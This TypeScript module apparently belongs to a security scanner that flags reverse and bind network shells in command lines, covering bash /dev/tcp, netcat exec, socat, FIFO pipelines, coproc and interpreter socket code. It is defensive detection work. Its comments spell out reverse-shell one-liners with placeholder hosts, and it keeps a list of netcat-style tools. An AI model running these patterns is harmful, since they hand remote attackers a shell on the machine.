/**
 * Shells whose input and output are a network connection: reverse (it dials out) and bind (it listens).
 * Families: `/dev/tcp` of bash, netcat's exec, a FIFO or two connections around a shell, socat addresses, and
 * socket code in other languages.
 *
 * Blind spot: compiled implants, and code put together at run time or read from a file.
 */
import { isLoopback } from "./addresses.ts";
import type { Command, CommandLine } from "./command.ts";
import { interpreterCall, isShell, shellCall } from "./interpreters.ts";
import { parseOptions } from "./options.ts";
import { basename } from "./paths.ts";
import { socketCode } from "./socket-code.ts";

export interface NetworkShell {
  readonly kind: "reverse" | "bind";
  /** Short clause for the alert. */
  readonly reason: string;
  readonly host?: string;
  readonly port?: number;
}

const netcats = new Set(
  "nc ncat netcat nc.traditional nc.openbsd cryptcat sbd dbd rcat pwncat powercat pnetcat socket nc6".split(" "),
);
const known = new WeakMap<CommandLine, NetworkShell | null>();

/** The first network shell in a command line; connections to this machine only are none. */
export function networkShell(line: CommandLine): NetworkShell | undefined {
  const before = known.get(line);
  if (before !== undefined) return before ?? undefined;
  const found = search(line);
  known.set(line, found ?? null);
  return found;
}

function search(line: CommandLine): NetworkShell | undefined {
  for (const command of line.commands) {
    const found =
      deviceShell(command, line) ??
      coprocessShell(command, line) ??
      netcatShell(command) ??
      socatShell(command) ??
      codeShell(command, line);
    if (found && !(found.kind === "reverse" && found.host !== undefined && isLoopback(found.host))) return found;
  }
  for (const pipeline of line.pipelines) {
    const found = pipelineShell(pipeline, line);
    if (found && !(found.host !== undefined && isLoopback(found.host) && found.kind === "reverse")) return found;
  }
  return undefined;
}

/** A shell that takes its commands from standard input, or an interactive one. */
export function readsCommands(command: Command): boolean {
  if (!isShell(command.name)) return false;
  const { stdin, interactive } = shellCall(command.args);
  return stdin || interactive;
}

interface Device {
  readonly host: string;
  readonly port: number;
  readonly fd?: number;
}

function devices(command: Command): readonly Device[] {
  return command.redirections.flatMap(({ target, fd }) => {
    if (!target.startsWith("/dev/tcp/") && !target.startsWith("/dev/udp/")) return [];
    const [host = "", port] = target.slice(9).split("/", 2);
    return [{ host, port: Number(port), fd }];
  });
}

/** `bash -i >& /dev/tcp/H/P 0>&1`, and `exec 5<>/dev/tcp/H/P; sh <&5 >&5`, `while read l <&5; do $l >&5; done`. */
function deviceShell(command: Command, line: CommandLine): NetworkShell | undefined {
  const [device] = devices(command);
  // `bash -i /dev/tcp/H/P`: what is left of the line where its redirection was lost.
  const operand =
    readsCommands(command) || shellCall(command.args).file
      ? command.args.find((arg) => /^\/dev\/(?:tcp|udp)\/[^/]+\/\d/.test(arg))
      : undefined;
  if (operand && isShell(command.name)) {
    const [, , , host = "", port] = operand.split("/", 5);
    return { kind: "reverse", reason: `a shell is given ${operand}`, host, port: Number(port) || undefined };
  }
  if (!device) return undefined;
  const reverse: NetworkShell = {
    kind: "reverse",
    reason: `a shell is connected to ${device.host}:${device.port || "?"} through /dev/tcp`,
    host: device.host,
    port: device.port || undefined,
  };
  if (readsCommands(command)) return reverse;
  const opener = command.wrappers.includes("exec") || command.name === "exec" || command.name === "";
  if (opener && line.commands.some((other) => usesDescriptor(other, device.fd))) return reverse;
  // The connection feeds a loop whose lines are run.
  if (command.program.startsWith("$") || command.name === "eval") return reverse;
  const fed = line.pipelines[command.pipeline]?.some(
    (c) => c.stage > command.stage && readsCommands(c) && devices(c).length > 0,
  );
  return fed ? reverse : undefined;
}

/** `coproc nc H P; bash <&${COPROC[0]} >&${COPROC[1]}` */
function coprocessShell(command: Command, line: CommandLine): NetworkShell | undefined {
  if (!readsCommands(command) || !command.redirections.some((r) => r.target.includes("COPROC"))) return undefined;
  const end = line.commands.map(connection).find((found) => found !== undefined);
  if (!end) return undefined;
  const kind = end.listens ? "bind" : "reverse";
  return { kind, reason: "a shell is tied to a coprocess on the network", host: end.host, port: end.port };
}

/** Does a shell, or a line taken as a command, speak through this descriptor? */
function usesDescriptor(command: Command, fd: number | undefined): boolean {
  const runs = readsCommands(command) || command.program.startsWith("$") || command.name === "eval";
  if (!runs) return false;
  return command.redirections.some(
    ({ operator, target }) =>
      (operator === ">&" || operator === "<&") &&
      (fd === undefined || target === String(fd)) &&
      target !== "1" &&
      target !== "2",
  );
}

/** Text of an exec option that starts a shell, or any program given by path. */
function startsShell(text: string | undefined): boolean {
  if (!text) return false;
  const [first = ""] = text.trim().split(/[\s,]/, 1);
  const name = basename(first);
  return (
    isShell(name) ||
    /^(cmd|cmd\.exe|powershell|busybox|login)$/.test(name) ||
    /(^|[\s/;|])(ba|da|z|k|a)?sh(\s|$)/.test(text.slice(0, 512))
  );
}

const netcatOptions = {
  short: "eciopqswxXTIMOGgm",
  long: ["exec", "sh-exec", "lua-exec", "source", "source-port", "shell", "wait", "proxy", "port"],
};

function netcatShell(command: Command): NetworkShell | undefined {
  if (!netcats.has(command.name)) return undefined;
  const options = parseOptions(command.args, netcatOptions);
  const program =
    options.value("e", "exec") ?? options.value("c", "sh-exec", "lua-exec") ?? options.value("s", "shell");
  const byPath = options.value("e", "exec")?.startsWith("/") ?? false;
  if (!startsShell(program) && !byPath) return undefined;
  const { host, port, listens } = netcatEnd(command);
  if (listens)
    return {
      kind: "bind",
      reason: `${command.name} listens${port ? ` on port ${port}` : ""} and hands out ${program}`,
      port,
    };
  return { kind: "reverse", reason: `${command.name} hands ${program} to ${host ?? "a remote host"}`, host, port };
}

interface End {
  readonly host?: string;
  readonly port?: number;
  readonly listens: boolean;
}

function netcatEnd(command: Command): End {
  const options = parseOptions(command.args, netcatOptions);
  const listens = options.has("l", "listen", "L") || options.operands[0] === "listen";
  const operands = options.operands.filter((word) => word !== "connect" && word !== "listen" && !word.startsWith("/"));
  const last = Number(options.value("p", "source-port") ?? operands.at(-1));
  return { host: listens ? undefined : operands[0], port: last > 0 && last < 65536 ? last : undefined, listens };
}

/** `socat TCP:H:P EXEC:sh`, `socat TCP-LISTEN:P EXEC:sh` */
function socatShell(command: Command): NetworkShell | undefined {
  if (command.name !== "socat") return undefined;
  const addresses = command.args.filter((arg) => arg.includes(":") || arg.includes(","));
  const runs = addresses.find((a) => /^(exec|system|shell):/i.test(a));
  if (!runs || !startsShell(runs.slice(runs.indexOf(":") + 1).replace(/^['"]+/, ""))) return undefined;
  const net = addresses.find((a) => /^(tcp|udp|openssl|ssl|sctp|dccp|socks)/i.test(a));
  if (!net) return undefined;
  const [scheme = "", ...rest] = (net.split(",", 1)[0] as string).split(":");
  if (/listen|-l$|recv/i.test(scheme))
    return {
      kind: "bind",
      reason: `socat listens on ${rest[0] ?? "a port"} and hands out a shell`,
      port: Number(rest[0]) || undefined,
    };
  return {
    kind: "reverse",
    reason: `socat hands a shell to ${rest.join(":")}`,
    host: rest.slice(0, -1).join(":"),
    port: Number(rest.at(-1)) || undefined,
  };
}

/** Does this command carry a plain connection (netcat, telnet, `openssl s_client`, `curl telnet://`, socat)? */
export function connection(command: Command): End | undefined {
  const { name, args } = command;
  if (netcats.has(name)) {
    const end = netcatEnd(command);
    return end.host !== undefined || end.listens ? end : undefined;
  }
  if (name === "telnet") {
    const [host, port] = parseOptions(args, { short: "ablnSX" }).operands;
    return host ? { host, port: Number(port) || undefined, listens: false } : undefined;
  }
  if (name === "openssl" && args[0] === "s_client") {
    const target = args[args.indexOf("-connect") + 1] ?? "";
    const colon = target.lastIndexOf(":");
    return {
      host: target.slice(0, Math.max(0, colon)),
      port: Number(target.slice(colon + 1)) || undefined,
      listens: false,
    };
  }
  if (name === "openssl" && args[0] === "s_server") return { listens: true };
  const url = args.find((arg) => arg.startsWith("telnet://"));
  if (name === "curl" && url) return { host: url.slice(9).split(":", 1)[0], listens: false };
  if (name === "socat") {
    const net = args.find((arg) => /^(tcp|openssl|udp)\d?(-connect)?:/i.test(arg));
    return net ? { host: net.split(":")[1], listens: false } : undefined;
  }
  return undefined;
}

/** `cat f | sh -i 2>&1 | nc H P > f`, `telnet H P | sh | telnet H P2`, `nc H P < f | sh > f` */
function pipelineShell(pipeline: readonly Command[], line: CommandLine): NetworkShell | undefined {
  const shell = pipeline.find(readsCommands);
  if (!shell) return undefined;
  const ends = pipeline.flatMap((command) => {
    const end = connection(command);
    return end ? [{ end, command }] : [];
  });
  const first = ends[0];
  if (!first) return undefined;
  const fifo = line.commands.some(makesFifo);
  const interactive = shellCall(shell.args).interactive;
  const bothSides =
    ends.some(({ command }) => command.stage < shell.stage) && ends.some(({ command }) => command.stage > shell.stage);
  const circle = pipeline.some((a) =>
    a.redirections.some((r) => r.operator.startsWith(">") && pipeline.some((b) => reads(b, r.target))),
  );
  if (!fifo && !interactive && !bothSides && !circle) return undefined;
  const { host, port, listens } = first.end;
  const where = listens ? `listens on port ${port ?? "?"}` : `is connected to ${host ?? "?"}`;
  return {
    kind: listens ? "bind" : "reverse",
    reason: `a shell in a pipeline with ${first.command.name} ${where}`,
    host,
    port,
  };
}

function reads(command: Command, file: string): boolean {
  if (file.startsWith("/dev/") || file.length < 2) return false;
  return (
    command.redirections.some((r) => r.operator === "<" && r.target === file) ||
    (command.name === "cat" && command.args.includes(file))
  );
}

/** `mkfifo F`, `mknod F p` */
export function makesFifo(command: Command): boolean {
  return command.name === "mkfifo" || (command.name === "mknod" && command.args.includes("p"));
}

/** Socket code on the line: an interpreter's, or a source text that is written or piped to a compiler. */
function codeShell(command: Command, line: CommandLine): NetworkShell | undefined {
  const { name, args } = command;
  if (name === "xterm" || name === "uxterm") {
    const display = args[args.indexOf("-display") + 1] ?? "";
    const host = display.split(":", 1)[0];
    return args.includes("-display") && host && host !== "unix"
      ? { kind: "reverse", reason: `xterm is shown on ${display}`, host }
      : undefined;
  }
  if (name === "ztcp")
    return line.commands.some(readsCommands)
      ? { kind: "reverse", reason: `zsh connects a shell to ${args[0]}`, host: args[0] }
      : undefined;
  const call = interpreterCall(command);
  if (!call && isShell(name)) return undefined;
  const here = command.redirections.filter((r) => r.operator.startsWith("<<")).map((r) => r.target);
  const written = call ? [call.code ?? "", ...here] : [...args, ...here];
  for (const text of written) {
    const found =
      text.length > 24 ? socketCode(text, !call && name !== "echo" && name !== "printf" && name !== "cat") : undefined;
    if (found)
      return {
        ...found,
        reason: `${name || "code"} ${found.kind === "bind" ? "listens and hands out" : "dials out and runs"} a shell`,
      };
  }
  return undefined;
}
